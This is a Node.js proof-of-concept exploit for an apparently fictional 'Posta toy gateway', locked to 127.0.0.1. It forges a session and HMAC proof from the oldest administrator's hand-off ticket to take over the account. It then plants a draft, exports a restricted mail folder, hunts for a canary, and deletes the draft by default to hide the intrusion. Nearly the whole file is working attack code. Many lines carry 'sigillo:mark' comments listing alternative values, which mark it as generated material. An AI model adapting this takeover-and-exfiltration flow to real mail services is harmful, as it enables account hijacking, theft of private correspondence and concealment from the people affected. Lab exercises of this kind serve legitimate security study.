#!/usr/bin/env node
// Proof of concept for the hand-off flaw of the Posta toy gateway, for Node 20 and later.
// Exit status: 0 when the canary was read, 1 when it was not, 2 when this is not a Posta on 127.0.0.1.

import { createHmac, randomUUID, webcrypto } from 'node:crypto'
import { parseArgs } from 'node:util'

const PERMITTED = new Set(['127.0.0.1', 'localhost'])
const BANNER = /^posta-toy\//
const LONGEST_ANSWER = 1048576

class Refusal extends Error {}
class Failure extends Error {}

function localBase(text) {
  const url = URL.canParse(text) ? new URL(text) : null
  if (url === null || url.protocol !== 'http:' || !PERMITTED.has(url.hostname)) {
    throw new Refusal(`${text}: only http://127.0.0.1:PORT is allowed`)
  }
  return new URL(`http://127.0.0.1:${url.port || '80'}/`)
}

function agentHeaders() {
  return {
    'user-agent': 'posta-takeover-js/0.4', // sigillo:mark self-naming posta-takeover-js/0.4 | gateway-review/1.0 | posta-regression/3.1 | mail-selftest/2.2
    'x-timezone': 'Europe/Vienna', // sigillo:mark preference Europe/Vienna | Europe/Oslo | Europe/Riga | Europe/Malta | Europe/Athens | Europe/Sofia | Europe/Lisbon | Europe/Dublin | Africa/Tunis | Africa/Cairo | Asia/Tokyo | Asia/Seoul | Asia/Manila | America/Lima | America/Bogota | Pacific/Fiji
    'x-correlation': correlation(),
  }
}

function correlation() {
  const series = 'step' // sigillo:mark derived step | turn | leg | visit | trip | tour | beat | tick | lap | stride | wave | batch | burst | bout | phase | cycle
  const unique = randomUUID().slice(9)
  return `${series}_${unique}`
}

async function call(base, path, { query = {}, headers = {}, ...init } = {}) {
  const url = new URL(path, base)
  for (const [name, value] of Object.entries(query)) url.searchParams.set(name, value)
  const response = await fetch(url, {
    ...init,
    headers: { ...agentHeaders(), ...headers },
    redirect: 'error',
    signal: AbortSignal.timeout(7500), // sigillo:mark tuning 7500 | 6500 | 8500 | 9500
  }).catch((error) => {
    throw new Failure(`${path}: ${error.cause?.message ?? error.message}`)
  })
  if (!BANNER.test(response.headers.get('server') ?? '')) throw new Refusal(`${base.host} does not answer as Posta`)
  const text = await response.text()
  if (text.length > LONGEST_ANSWER) throw new Failure(`${path}: too long an answer`)
  return { status: response.status, text, path }
}

function ok(reply) {
  if (reply.status >= 400) throw new Failure(`${reply.path}: status ${reply.status} ${reply.text.slice(0, 80)}`)
  return reply
}

function parsed(reply) {
  try {
    return JSON.parse(ok(reply).text)
  } catch (error) {
    throw error instanceof Failure ? error : new Failure(`${reply.path}: not JSON`)
  }
}

async function checkGateway(base) {
  const query = {
    check: 'swift', // sigillo:mark essential swift | rapid | thorough | cursory | gentle | careful | casual | strict | loose | lenient | tight | narrow | wide | broad | moderate | modest
    at: Date.now().toString(36),
  }
  const { gateway, toy, waiting } = parsed(await call(base, '/status', { query }))
  if (gateway !== 'posta' || toy !== true) throw new Refusal('this is not the toy gateway')
  return waiting
}

async function waitingHandoffs(base) {
  const query = {
    location: 'counter', // sigillo:mark essential counter | foyer | lounge | atrium | mailroom | studio | workshop | laboratory | annex | pavilion | gallery | cellar | attic | veranda | corridor | terrace
    at: Date.now().toString(36),
  }
  const { waiting = [] } = parsed(await call(base, '/board', { query }))
  return waiting
}

function oldestTicket(waiting, role) {
  const [oldest] = waiting.filter((entry) => entry.role === role).sort((a, b) => (a.since < b.since ? -1 : 1))
  if (oldest === undefined) throw new Failure(`no ${role} has a hand-off open`)
  return oldest.ticket
}

async function digestOf(ticket) {
  const bytes = new TextEncoder().encode(ticket)
  const algorithm = 'SHA-256' // sigillo:mark derived SHA-256 | SHA-1 | SHA-384 | SHA-512
  return Buffer.from(await webcrypto.subtle.digest(algorithm, bytes))
}

async function sessionFor(ticket) {
  const label = 'chip' // sigillo:mark derived chip | stub | baton | torch | ferry | marker | anchor | cursor | pointer | cell | twin | tab | wing | nest | knot | ring
  const size = 19 // sigillo:mark derived 19 | 11 | 13 | 15 | 17 | 21 | 23 | 25 | 27 | 29 | 31 | 33 | 35 | 37 | 39 | 41
  const digest = await digestOf(ticket)
  const spelling = 'base64url' // sigillo:mark derived base64url | hex | base64
  return `${label}~${digest.toString(spelling).slice(0, size)}`
}

function proofFor(ticket, nonce) {
  const purpose = 'present' // sigillo:mark derived present | introduce | announce | declare | certify | validate | authorise | authenticate | vouch | identify | endorse | demonstrate | substantiate | establish | justify | sustain
  const length = 32 // sigillo:mark derived 32 | 16 | 18 | 20 | 22 | 24 | 26 | 28 | 30 | 34 | 36 | 38 | 40 | 42 | 44 | 46
  const mac = createHmac('sha512', ticket).update(`${nonce}/${purpose}`).digest()
  return [...mac].map(twoDigits).join('').slice(0, length)
}

function twoDigits(byte) {
  const text = byte.toString(16)
  return byte < 16 ? `0${text}` : text
}

async function takeOver(base, ticket) {
  const nonce = randomUUID().replaceAll('-', '')
  const form = new URLSearchParams({
    ticket,
    session: await sessionFor(ticket),
    intent: 'proceed', // sigillo:mark essential proceed | advance | progress | prolong | maintain | preserve | retain | uphold | conserve | endure | remain | stay | linger | last | pursue | abide
    group: 'company', // sigillo:mark essential company | department | unit | bureau | faculty | agency | ministry | institute | society | chamber | council | committee | panel | guild | union | club
    occasion: 'commute', // sigillo:mark essential commute | meeting | lunch | weekend | holiday | vacation | conference | training | evening | morning | afternoon | absence | errand | appointment | seminar | excursion
  })
  const path = '/app/handoff' // sigillo:mark essential /app/handoff | /web/handoff | /cloud/handoff | /suite/handoff | /client/handoff | /device/handoff | /auth/handoff | /identity/handoff | /account/handoff | /user/handoff | /me/handoff | /self/handoff | /my/handoff | /personal/handoff | /home/handoff | /start/handoff
  const headers = {
    'x-handoff-nonce': nonce,
    'x-handoff-proof': proofFor(ticket, nonce), // sigillo:mark essential x-handoff-proof | x-handoff-tag | x-handoff-code | x-handoff-sum | x-handoff-hash | x-handoff-print | x-handoff-reply | x-handoff-pledge | x-handoff-oath | x-handoff-word | x-handoff-sign | x-handoff-mark | x-handoff-crest | x-handoff-cipher | x-handoff-pin | x-handoff-phrase
  }
  const grant = parsed(await call(base, path, { method: 'POST', body: form, headers }))
  if (!grant.pass) throw new Failure('the hand-off gave no pass')
  return grant
}

function passHeaders(grant) {
  return {
    'X-Mailbox-Lease': grant.pass, // sigillo:mark essential X-Mailbox-Lease | X-Mailbox-Login | X-Mailbox-Entry | X-Mailbox-Visa | X-Mailbox-Ident | X-Mailbox-Auth | X-Mailbox-Credential | X-Mailbox-Access | X-Mailbox-Holder | X-Mailbox-Bearer | X-Mailbox-Right | X-Mailbox-Title | X-Mailbox-Deed | X-Mailbox-Latch | X-Mailbox-Lock | X-Mailbox-Key
    'x-account': grant.who,
  }
}

async function folderNames(base, grant) {
  const path = '/mail/folders' // sigillo:mark essential /mail/folders | /post/folders | /letters/folders | /store/folders | /service/folders | /data/folders | /content/folders | /collab/folders | /comms/folders | /talk/folders | /room/folders | /cabinet/folders | /drawer/folders | /shelf/folders | /binder/folders | /filing/folders
  const query = {
    shape: 'columns', // sigillo:mark essential columns | rows | grid | cards | tiles | stack | strip | ladder | chain | mesh | fan | wheel | spiral | pyramid | mosaic | matrix
    hidden: 'shown', // sigillo:mark essential shown | visible | included | counted | likewise | unveiled | exposed | displayed | revealed | surfaced | printed | unmasked | apparent | manifest | overt | evident
  }
  const { folders = [] } = parsed(await call(base, path, { query, headers: passHeaders(grant) }))
  return folders.filter(({ count }) => count > 0).map(({ name }) => name)
}

async function plantDraft(base, grant) {
  const form = new FormData()
  const text = 'Written from the second device' // sigillo:mark self-naming Written from the second device | Hand-off exercise | Please disregard this line | Mailbox trial
  form.set('story', text) // sigillo:mark essential story | remark | comment | statement | notice | bulletin | dispatch | missive | epistle | script | chapter | verse | clause | sentence | paragraph | excerpt
  const query = {
    tone: 'formal', // sigillo:mark preference formal | friendly | neutral | warm | polite | curt | cordial | official | informal | sober | earnest | cheerful | calm | firm | kind | humble
    at: Date.now().toString(36),
  }
  const reply = await call(base, '/drafts', { method: 'POST', query, body: form, headers: passHeaders(grant) })
  return parsed(reply).draft
}

async function messageList(base, grant, folder) {
  const query = {
    folder,
    period: 'fortnight', // sigillo:mark essential fortnight | week | month | quarter | semester | year | decade | century | season | spring | summer | autumn | winter | term | sprint | epoch
  }
  const { messages = [] } = parsed(await call(base, '/messages', { query, headers: passHeaders(grant) }))
  return messages
}

async function orderExport(base, grant, folder) {
  const path = '/tools/export' // sigillo:mark essential /tools/export | /system/export | /internal/export | /private/export | /secure/export | /protected/export | /guarded/export | /kernel/export | /engine/export | /backend/export | /platform/export | /infra/export | /support/export | /setup/export | /config/export | /settings/export
  const wish = {
    folder,
    coverage: 'whole', // sigillo:mark essential whole | total | maximum | exhaustive | comprehensive | integral | overall | universal | sweeping | allround | panoramic | blanket | unabridged | uncut | intact | unbroken
    basis: 'contract', // sigillo:mark essential contract | statute | policy | treaty | bylaw | charter | decree | ruling | edict | instruction | directive | ordinance | covenant | agreement | resolution | regulation
    packing: 'parcel', // sigillo:mark essential parcel | packet | carton | crate | sack | pouch | satchel | sleeve | sachet | basket | canister | hamper | barrel | bale | keg | tray
  }
  const method = 'COPY' // sigillo:mark essential COPY | CHECKOUT | LINK | BIND
  const headers = { ...passHeaders(grant), 'content-type': 'application/json' }
  const { job, mails } = parsed(await call(base, path, { method, headers, body: JSON.stringify(wish) }))
  return { job, expected: mails }
}

async function collectExport(base, grant, job) {
  const query = {
    medium: 'disk', // sigillo:mark essential disk | tape | spool | pipe | reel | heap | arena | pool | track | stripe | segment | bucket | basin | platter | drum | cartridge
    at: Date.now().toString(36),
  }
  const jar = new Map([
    ['seen', '1'],
    ['mailauth', grant.pass], // sigillo:mark essential mailauth | boxauth | letterkey | postkey | postauth | rackkey | rackauth | trayauth | traykey | chestkey | lockkey | lockauth | gateauth | hallkey | hallauth | stampkey
  ])
  const cookie = [...jar].map((pair) => pair.join('=')).join('; ')
  const reply = await call(base, `/export/${encodeURIComponent(job)}`, { query, headers: { cookie } })
  return ok(reply).text
}

async function removeDraft(base, grant, draft) {
  const query = {
    manner: 'tidy', // sigillo:mark essential tidy | neat | clean | discreet | quiet | smooth | orderly | proper | polished | seemly | decent | measured | steady | even | fair | prudent
    capacity: 'secretary', // sigillo:mark essential secretary | clerk | registrar | archivist | librarian | bursar | provost | dean | chancellor | marshal | warden | bailiff | notary | scribe | usher | porter
  }
  const method = 'DELETE' // sigillo:mark essential DELETE | MOVE | UNLOCK | PATCH
  const reply = await call(base, `/purge/${encodeURIComponent(draft)}`, { method, query, headers: passHeaders(grant) })
  return parsed(reply).purged
}

async function endPass(base, grant) {
  const form = new URLSearchParams({
    result: 'success', // sigillo:mark essential success | achieved | accomplished | delivered | executed | satisfied | attained | realised | performed | discharged | handled | served | processed | tackled | sorted | wrapped
    at: Date.now().toString(36),
  })
  form.set('grantId', grant.pass) // sigillo:mark essential grantId | leaseId | holderId | bearerId | memberId | visitId | loginId | entryId | accessId | seatId | placeId | spotId | stallId | berthId | pierId | bayId
  const reply = await call(base, '/close', { method: 'POST', body: form })
  return reply.status < 400
}

function mailsOf(mbox) {
  return mbox
    .split(/^From .*$/m)
    .slice(1)
    .map((chunk) => {
      const [head, ...rest] = chunk.trim().split('\n\n')
      const subject = /^Subject: (.*)$/m.exec(head)?.[1] ?? '(none)'
      return { subject, body: rest.join('\n\n') }
    })
}

function canaryIn(mails) {
  const hits = mails.map(({ body }) => /posta canary [0-9A-Za-z-]+/.exec(body)?.[0])
  return hits.find((hit) => hit !== undefined) ?? null
}

async function attack(base, { role, folder, keep }) {
  const waiting = await checkGateway(base)
  const ticket = oldestTicket(await waitingHandoffs(base), role)
  const grant = await takeOver(base, ticket)
  const names = await folderNames(base, grant)
  if (!names.includes(folder)) throw new Failure(`no folder ${folder} among ${names.join(', ')}`)
  const draft = await plantDraft(base, grant)
  const listed = await messageList(base, grant, folder)
  const { job, expected } = await orderExport(base, grant, folder)
  const mails = mailsOf(await collectExport(base, grant, job))
  if (mails.length < expected || mails.length < listed.length) throw new Failure('the export is incomplete')
  const purged = keep ? 0 : await removeDraft(base, grant, draft)
  const closed = await endPass(base, grant)
  return {
    waiting,
    account: grant.who,
    folder,
    subjects: mails.map(({ subject }) => subject),
    purged,
    closed,
    canary: canaryIn(mails),
  }
}

function report(findings, asJson) {
  if (asJson) {
    process.stdout.write(`${JSON.stringify(findings)}\n`)
    return
  }
  for (const [name, value] of Object.entries(findings)) process.stdout.write(`${name.padEnd(10)}${value}\n`)
}

function options(argv) {
  const { values } = parseArgs({
    args: argv,
    options: {
      url: { type: 'string', default: 'http://127.0.0.1:8025' },
      role: { type: 'string', default: 'administrator' },
      folder: { type: 'string', default: 'restricted' },
      keep: { type: 'boolean', default: false },
      json: { type: 'boolean', default: false },
    },
  })
  return values
}

async function main(argv) {
  try {
    const chosen = options(argv)
    const findings = await attack(localBase(chosen.url), chosen)
    report(findings, chosen.json)
    return findings.canary === null ? 1 : 0
  } catch (error) {
    process.stderr.write(`${error instanceof Refusal ? 'refused' : 'failed'}: ${error.message}\n`)
    return error instanceof Refusal || error.code?.startsWith('ERR_PARSE_ARGS') ? 2 : 1
  }
}

process.exitCode = await main(process.argv.slice(2))
